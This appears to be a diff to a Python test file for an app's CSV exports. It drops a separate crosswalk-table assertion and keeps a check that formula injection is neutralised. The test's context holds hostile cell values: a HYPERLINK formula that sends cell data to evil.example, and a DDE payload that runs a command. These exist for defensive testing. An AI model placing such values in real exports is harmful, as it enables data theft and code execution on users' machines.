@@ -14,7 +14,6 @@ from fastapi.testclient import TestClient
 from app.core.csv_cells import TRIGGERS, cell
 from app.exports.rows import MappingRow
 from app.exports.spreadsheet import write_csv
-from app.exports.tables import crosswalk_csv
 from tests.test_inventory import CV_RANKER
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
@@ -72,11 +71,7 @@ def test_mapping_csvs_neutralise_formulas() -> None:
         derived=False,
         derived_from=(),
     )
-    assert dangerous(write_csv([row, replace(row, derived=True)])) == []
-    table = crosswalk_csv(
-        [{"subject_id": "=1+1", "subject_label": "@x", "confidence": 0.5, "derived": False}]
-    )
-    assert dangerous(table) == []
+    assert dangerous(write_csv([row, replace(row, derived=True)])) == []  # GET /crosswalk's CSV too
 
 
 @pytest.mark.parametrize("value", ["plain", "a=b", "", "0.5", "https://x.example/=y"])
